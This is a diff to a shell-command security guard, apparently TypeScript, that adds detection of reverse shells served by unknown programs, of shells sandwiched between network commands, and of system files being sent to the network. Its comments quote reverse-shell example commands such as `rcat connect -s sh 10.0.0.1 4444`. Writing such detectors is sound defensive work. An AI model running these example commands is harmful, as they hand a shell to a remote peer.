@@ -6,8 +6,8 @@ import { posix } from "node:path";
 import { analyseShell } from "../shell/interpreter.js";
 import type { CommandLog, ShellCommand } from "../shell/records.js";
 import { INTERPRETERS, SHELLS } from "../command-names.js";
-import { commandEffects, FETCHERS, remoteCommand, SENDERS } from "./command-table.js";
-import { effect, type Effect, type Finding, type ThreatClass } from "./effect.js";
+import { COMMAND_EFFECTS, commandEffects, FETCHERS, remoteCommand, SENDERS } from "./command-table.js";
+import { classified, effect, type Effect, type Finding, type ThreatClass } from "./effect.js";
 import { autorunPlace, isDotfile, isSystemConfig } from "./autorun.js";
 import { mining } from "./commands/system.js";
 import { embeddedCommands } from "./embedded.js";
@@ -25,6 +25,7 @@ import {
   isProtectionConfig,
   isSecretFile,
   isSystemBinary,
+  isSystemData,
   isSystemRoot,
   isWorkspaceAncestor,
   resolveTarget,
@@ -61,6 +62,7 @@ export function logEffects(log: CommandLog, where: Where): CommandEffects[] {
       ...mining(c),
       ...namedFileEffects(c, where.home, where.workspace),
     ];
+    if (servesShell(c)) effects.push(classified("reverse_shell", "gives a shell to a network peer (a program the guard does not know)"));
     const code = inlineCode(c);
     if (code !== undefined) effects.push(...inlineCodeWrites(code, c, where.home, where.workspace));
     const lines: string[] = embeddedCommands(c) ?? [];
@@ -183,6 +185,7 @@ const TARGET_RULES: Partial<Record<Effect["kind"], TargetRule>> = {
     if (isDotfile(t, where.home)) return hit("exfiltration", "sends a user's dotfile to the network");
     if (ARCHIVE_RE.test(t) && !t.startsWith(`${where.workspace}/`))
       return hit("exfiltration", "sends an archive from outside the workspace to the network");
+    if (isSystemData(t, where.home)) return hit("exfiltration", "sends the system's files (configuration, logs, state) to the network");
     return undefined;
   },
 };
@@ -312,6 +315,15 @@ function remoteCode(line: Line, add: Add): void {
   }
 }
 
+/** A network peer as an argument: an IPv4 address (with a port), or host:port. */
+const PEER_RE = /^(\d{1,3}\.){3}\d{1,3}(:\d{1,5})?$|^[a-z][\w.-]*:\d{2,5}$/i;
+
+/** `rcat connect -s sh 10.0.0.1 4444`: a program the table does not know, given a shell as an option's value and a peer to talk to. */
+function servesShell(c: ShellCommand): boolean {
+  if (COMMAND_EFFECTS.has(c.name) || !c.args.some((a) => PEER_RE.test(a))) return false;
+  return c.args.some((a, i) => i > 0 && (c.args[i - 1] as string).startsWith("-") && SHELLS.has(posix.basename(a)));
+}
+
 /** A shell wired to a network socket, directly or through a network client in its pipeline. */
 function reverseShell(line: Line, add: Add): void {
   let shell = false;
@@ -332,6 +344,12 @@ function reverseShell(line: Line, add: Add): void {
     if (toSocket && c.name !== "ztcp") add("reverse_shell", "connects a shell to a network socket");
     if (NET_CLIENTS.has(c.name) && line.pipeline(ce).some((b) => b !== ce && (SHELLS.has(b.command.name) || hasKind(b, "runs_stdin"))))
       add("reverse_shell", "pipes a shell through a network connection");
+    // A shell between two network commands of one pipeline (`curl telnet://h | sh | curl telnet://h`): the peer's text runs, its output goes back.
+    if (hasKind(ce, "runs_stdin")) {
+      const pl = line.pipeline(ce);
+      if (pl.some((b) => b.command.pos < c.pos && hasKind(b, "network")) && pl.some((b) => b.command.pos > c.pos && hasKind(b, "network")))
+        add("reverse_shell", "runs what a network peer sends and sends back its output");
+    }
   }
   if (shell && socket) add("reverse_shell", "connects a shell to a network socket");
 }
